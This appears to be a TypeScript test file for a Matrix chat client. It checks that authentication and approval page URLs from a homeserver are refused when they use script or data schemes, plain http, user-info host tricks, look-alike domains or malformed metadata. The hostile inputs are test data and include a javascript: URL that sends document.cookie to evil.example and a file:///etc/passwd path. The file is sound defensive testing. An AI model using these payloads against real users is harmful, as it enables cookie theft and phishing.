import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { discoverAuthOrigins, parseAuthMetadata, parseWellKnownAuth, vetAuthPage } from './auth-origins.ts';
import { checkAuthPage, isLoopbackHost, MAX_AUTH_PAGE_URL } from './auth-page.ts';
import { approvalUrl } from './uia-flows.ts';

const HS = 'https://matrix.example.org';
const MAS = 'https://account.example.org';

const refusal = (url: string, advertised: string[] = [MAS], hs = HS): string => {
  const r = checkAuthPage(url, hs, advertised);
  assert.equal(r.ok, false, `${url} must be refused`);
  return r.ok ? '' : r.error.code;
};

describe('checkAuthPage: which approval / fallback pages may be opened', () => {
  it('accepts the homeserver origin and the advertised origins, naming the host to show', () => {
    const fallback = checkAuthPage(`${HS}/_matrix/client/v3/auth/m.login.sso/fallback/web?session=abc`, HS, []);
    assert.deepEqual(fallback, { ok: true, value: {
      url: `${HS}/_matrix/client/v3/auth/m.login.sso/fallback/web?session=abc`, origin: HS, host: 'matrix.example.org' } });
    const approval = checkAuthPage(`${MAS}/account/?action=org.matrix.cross_signing_reset`, HS, [MAS]);
    assert.equal(approval.ok && approval.value.host, 'account.example.org');
    // A homeserver with a path prefix: the origin counts.
    assert.equal(checkAuthPage(`${HS}/x`, `${HS}/matrix`, []).ok, true);
    // Non-default port shown.
    const port = checkAuthPage('https://account.example.org:8443/a', HS, ['https://account.example.org:8443']);
    assert.equal(port.ok && port.value.host, 'account.example.org:8443');
  });

  it('refuses scripts, data and other schemes', () => {
    for (const url of ['javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'data:text/html,<script>alert(1)</script>', 'file:///etc/passwd',
      'blob:https://account.example.org/x', 'chrome-extension://abc/popup.html', 'about:blank', 'ftp://account.example.org/']) {
      assert.equal(refusal(url), 'scheme', url);
    }
  });

  it('refuses plain http except on loopback hosts', () => {
    assert.equal(refusal('http://account.example.org/account/', ['http://account.example.org']), 'insecure');
    assert.equal(refusal('http://matrix.example.org/x', [], 'http://matrix.example.org'), 'insecure');
    for (const host of ['localhost:8080', '127.0.0.1:8008', '127.5.6.7', '[::1]:9000', '127.1:8008', '0x7f.0.0.1']) {
      const url = `http://${host}/page`;
      const origin = new URL(url).origin;
      assert.equal(checkAuthPage(url, `http://${host}`, []).ok, true, url);
      assert.equal(checkAuthPage(url, HS, [origin]).ok, true, url);
    }
    for (const host of ['localhost.evil.example', '127.0.0.1.evil.example', '128.0.0.1', '[::2]', '10.0.0.1', 'evil.localhost.example']) {
      assert.equal(refusal(`http://${host}/page`, [`http://${host}`]), 'insecure', host);
    }
  });

  it('refuses user-info tricks: the real host is after the @', () => {
    assert.equal(refusal('https://matrix.example.org@evil.example/account/'), 'credentials');
    assert.equal(refusal('https://account.example.org:secret@account.example.org/'), 'credentials');
    assert.equal(refusal('https://user@account.example.org/'), 'credentials');
  });

  it('refuses other origins, including look-alikes and other ports or schemes of the same host', () => {
    for (const url of [
      'https://evil.example/account/', 'https://account.example.org.evil.example/', 'https://evil.example/https://account.example.org/',
      'https://account.example.org:444/', 'https://matrix.example.org:8448/', 'https://xn--ccount-3we.example.org/',
      'https://аccount.example.org/', // Cyrillic а
      'https://account。example。org.evil.example/', 'https://ACCOUNT.example.org.evil.example/',
    ]) {
      assert.equal(refusal(url), 'origin', url);
    }
    // The IDN look-alike is shown in punycode in the reason, never as the name it imitates.
    const r = checkAuthPage('https://аccount.example.org/', HS, [MAS]);
    assert.ok(!r.ok && r.error.reason.startsWith('xn--'), JSON.stringify(r));
    // Upper case and an ideographic full stop normalise to the real host: that IS the advertised origin.
    assert.equal(checkAuthPage('https://ACCOUNT.Example.ORG/a', HS, [MAS]).ok, true);
    assert.equal(checkAuthPage('https://account。example。org/a', HS, [MAS]).ok, true);
  });

  it('refuses malformed and overlong addresses', () => {
    assert.equal(refusal('not a url'), 'malformed');
    assert.equal(refusal(''), 'malformed');
    assert.equal(refusal('https://'), 'malformed');
    assert.equal(refusal('https://exa mple.org/'), 'malformed');
    assert.equal(refusal(`${MAS}/${'a'.repeat(MAX_AUTH_PAGE_URL)}`), 'too-long');
    assert.equal(checkAuthPage(`${MAS}/${'a'.repeat(100)}`, HS, [MAS]).ok, true);
  });

  it('isLoopbackHost', () => {
    assert.deepEqual(['localhost', '127.0.0.1', '127.255.0.9', '[::1]', 'example.org', '::1', '1127.0.0.1'].map(isLoopbackHost),
      [true, true, true, true, false, false, false]);
  });
});

const json = (status: number, body: unknown) => new Response(JSON.stringify(body), { status, headers: { 'Content-Type': 'application/json' } });

/** A fetch answering by path; records what was asked, with which headers. */
function fakeFetch(routes: Record<string, () => Response | Promise<Response>>) {
  const asked: { url: string; auth: string | null; redirect?: RequestRedirect }[] = [];
  const fetchFn: typeof fetch = async (input, init) => {
    const url = String(input);
    asked.push({ url, auth: new Headers(init?.headers).get('Authorization'), ...(init?.redirect ? { redirect: init.redirect } : {}) });
    const route = routes[new URL(url).pathname];
    return route === undefined ? json(404, { errcode: 'M_UNRECOGNIZED', error: 'Unrecognized request' }) : route();
  };
  return { fetchFn, asked };
}

describe('discoverAuthOrigins: what the homeserver advertises, read as hostile input', () => {
  const METADATA = '/_matrix/client/v1/auth_metadata';
  const WELL_KNOWN = '/.well-known/matrix/client';

  it('reads issuer, authorization_endpoint and account_management_uri from auth_metadata, without the token', async () => {
    const { fetchFn, asked } = fakeFetch({ [METADATA]: () => json(200, {
      issuer: 'https://auth.example.org/', authorization_endpoint: 'https://auth.example.org/authorize',
      account_management_uri: `${MAS}/account/`, token_endpoint: 'https://tokens.example.org/token',
    }) });
    const found = await discoverAuthOrigins(fetchFn, HS);
    assert.deepEqual(found, { origins: ['https://auth.example.org', MAS], source: 'auth_metadata' });
    assert.equal(asked.length, 1, 'no well-known read when the metadata advertises something');
    assert.equal(asked[0]!.auth, null);
    assert.equal(asked[0]!.redirect, 'error');
  });

  it('404 M_UNRECOGNIZED: falls back to the homeserver origin’s well-known (stable and unstable names)', async () => {
    const { fetchFn, asked } = fakeFetch({ [WELL_KNOWN]: () => json(200, {
      'm.homeserver': { base_url: HS }, 'org.matrix.msc2965.authentication': { issuer: 'https://auth.example.org/', account: `${MAS}/account` },
    }) });
    assert.deepEqual(await discoverAuthOrigins(fetchFn, `${HS}/prefix`), { origins: ['https://auth.example.org', MAS], source: 'well-known' });
    assert.deepEqual(asked.map((a) => a.url), [`${HS}/prefix${METADATA}`, `${HS}${WELL_KNOWN}`]);
    const stable = fakeFetch({ [WELL_KNOWN]: () => json(200, { 'm.authentication': { account: `${MAS}/a` } }) });
    assert.deepEqual(await discoverAuthOrigins(stable.fetchFn, HS), { origins: [MAS], source: 'well-known' });
  });

  it('advertises nothing for hostile or failing answers, and never throws', async () => {
    const hostile: (() => Response | Promise<Response>)[] = [
      () => json(200, { issuer: 'javascript:alert(1)', account_management_uri: 'http://account.example.org/', authorization_endpoint: 'data:text/html,x' }),
      () => json(200, { account_management_uri: 'https://user@evil.example/' }),
      () => json(200, { account_management_uri: ['https://account.example.org'], issuer: { url: MAS }, __proto__: { issuer: MAS } }),
      () => json(200, [MAS]),
      () => json(200, 'https://account.example.org'),
      () => new Response('<html>hi</html>', { status: 200 }),
      () => new Response('{"issuer": "https://account.exa', { status: 200 }),
      () => new Response('x'.repeat(200_000), { status: 200 }),
      () => json(200, { issuer: `https://a.example/${'a'.repeat(MAX_AUTH_PAGE_URL)}` }),
      () => json(500, { errcode: 'M_UNKNOWN' }),
      () => new Response(null, { status: 302, headers: { Location: `${MAS}/metadata` } }),
      () => { throw new TypeError('fetch failed'); },
      () => json(200, JSON.parse(`${'{"a":'.repeat(300)}1${'}'.repeat(300)}`)),
    ];
    for (const [i, answer] of hostile.entries()) {
      const { fetchFn } = fakeFetch({ [METADATA]: answer, [WELL_KNOWN]: answer });
      assert.deepEqual(await discoverAuthOrigins(fetchFn, HS), { origins: [], source: 'none' }, `answer ${i}`);
    }
    assert.deepEqual(await discoverAuthOrigins(fakeFetch({}).fetchFn, 'not a url'), { origins: [], source: 'none' });
  });

  it('parsers return Results', () => {
    assert.equal(parseAuthMetadata(null).ok, false);
    assert.equal(parseWellKnownAuth([]).ok, false);
    assert.deepEqual(parseWellKnownAuth({ 'm.authentication': 'https://x.example' }), { ok: true, value: [] });
  });
});

describe('vetAuthPage', () => {
  it('the fallback page on the homeserver origin needs no discovery', async () => {
    const { fetchFn, asked } = fakeFetch({});
    const r = await vetAuthPage(`${HS}/_matrix/client/v3/auth/m.login.terms/fallback/web?session=s`, HS, fetchFn);
    assert.equal(r.ok, true);
    assert.equal(asked.length, 0);
  });

  it('an approval page is accepted only on an advertised origin', async () => {
    const { fetchFn } = fakeFetch({ '/_matrix/client/v1/auth_metadata': () => json(200, { issuer: `${MAS}/`, account_management_uri: `${MAS}/account/` }) });
    assert.equal((await vetAuthPage(`${MAS}/account/?action=org.matrix.cross_signing_reset`, HS, fetchFn)).ok, true);
    const other = await vetAuthPage('https://evil.example/account/', HS, fetchFn);
    assert.equal(!other.ok && other.error.code, 'origin');
    const js = await vetAuthPage('javascript:fetch("https://evil.example/"+document.cookie)', HS, fetchFn);
    assert.equal(!js.ok && js.error.code, 'scheme');
    const nothing = await vetAuthPage(`${MAS}/account/`, HS, fakeFetch({}).fetchFn);
    assert.equal(!nothing.ok && nothing.error.code, 'origin', 'nothing advertised: only the homeserver origin');
  });
});

describe('approvalUrl hands the homeserver’s string to the page check', () => {
  const challenge = (url: unknown) => ({ flows: [{ stages: ['m.oauth'] }], params: { 'm.oauth': { url } }, completed: [], raw: {} });
  it('a hostile url is passed on (to be shown as text and refused), a missing one is not', () => {
    assert.equal(approvalUrl(challenge('javascript:alert(1)'), 'm.oauth'), 'javascript:alert(1)');
    assert.equal(checkAuthPage(approvalUrl(challenge('javascript:alert(1)'), 'm.oauth')!, HS, [HS]).ok, false);
    for (const bad of [undefined, '', 42, { url: MAS }, null]) assert.equal(approvalUrl(challenge(bad), 'm.oauth'), undefined);
  });
});
